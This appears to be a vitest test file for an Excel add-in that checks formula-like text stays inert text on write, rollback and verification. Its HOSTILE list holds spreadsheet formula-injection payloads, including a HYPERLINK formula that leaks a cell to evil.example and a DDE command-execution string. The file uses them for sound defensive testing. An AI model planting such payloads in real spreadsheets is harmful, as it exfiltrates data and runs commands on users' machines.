/**
 * Text that looks like a formula stays text in the Office.js adapter on every path: the first write, the rollback after
 * a refresh fails halfway, and "Kontrollera". The stand-in keeps, as Excel does, whether a cell was written with an
 * apostrophe (text) or not (a formula), and gives a formula's value as a result that is not its text.
 */
import { describe, expect, it } from 'vitest';
import { applyPlans, ApplyError } from '../../addin/excel/apply-plans.js';
import { verifyPlans } from '../../addin/excel/verify-plans.js';
import type { Cell, SheetPlan } from '../../addin/sheets/plan.js';
import { createExcelStandIn, holdsFormula, type ExcelStandIn } from '../helpers/excel-standin.js';

/** Names a region could load, each a formula if Excel were to read it as typed. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")', "+cmd|' /C calc'!A0", '@SUM(A1)', '=1+1', '-2+3'];

function plan(values: Cell[][]): SheetPlan {
  return {
    name: 'Program',
    code: 'PRG',
    blocks: [{ id: 'lista', row: 0, col: 0, cells: [['Namn', 'Värde'], ...values, ['Summa', { formula: 'SUM(B2:B6)' }]] }],
    charts: [],
    columnWidths: [],
    provenance: { source: 'test', parameters: {}, loads: [], writtenAt: '2025-01-01 12:00' },
    notes: [],
  };
}

const first = plan(HOSTILE.map((name, i) => [name, i + 1]));
const apply = (excel: ExcelStandIn, p: SheetPlan) => applyPlans(excel.context as unknown as Excel.RequestContext, [p]);
const verify = (excel: ExcelStandIn, p: SheetPlan) => verifyPlans(excel.context as unknown as Excel.RequestContext, [p]);

/** Each named cell: its value, and whether it holds a formula. */
const column = (excel: ExcelStandIn, col: string) =>
  [2, 3, 4, 5, 6, 7].map((row) => {
    const cell = excel.cell('Program', `${col}${row}`);
    return [cell?.value, holdsFormula(cell)];
  });

describe('text that looks like a formula, in the Office.js adapter', () => {
  it('is written as text, and the sum beside it as a formula', async () => {
    const excel = createExcelStandIn();
    await apply(excel, first);
    expect(column(excel, 'A')).toEqual([...HOSTILE.map((name) => [name, false]), ['Summa', false]]);
    expect(holdsFormula(excel.cell('Program', 'B7'))).toBe(true);
  });

  it('stays text after a refresh fails halfway and is rolled back; the formula stays a formula', async () => {
    const excel = createExcelStandIn();
    await apply(excel, first);
    const before = column(excel, 'A');
    // The refresh reads (one sync for the registry, one for the snapshot), then fails in its first write batch.
    const failing = createExcelStandIn({ failAtSync: excel.state.syncs.length + 3 });
    Object.assign(failing.state, excel.state);
    const second = plan(HOSTILE.map((name, i) => [`${name} (ny)`, i + 10]));
    const error = await apply(failing, second).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ApplyError);
    expect((error as ApplyError).restored).toBe(true);
    expect(column(failing, 'A')).toEqual(before);
    expect(holdsFormula(failing.cell('Program', 'B7'))).toBe(true);
    expect(failing.cell('Program', 'B7')?.value).toBe('=SUM(B2:B6)');
  });

  it('Kontrollera finds the sheet as written, and names a cell where the text has become a formula', async () => {
    const excel = createExcelStandIn();
    await apply(excel, first);
    expect((await verify(excel, first)).differences).toEqual([]);
    // Someone (or a faulty rollback) wrote the name back without its apostrophe: the cell now runs it.
    excel.setCell('Program', 'A2', HOSTILE[0]);
    const report = await verify(excel, first);
    expect(report.differences.map((d) => d.cell)).toEqual(['A2']);
  });
});
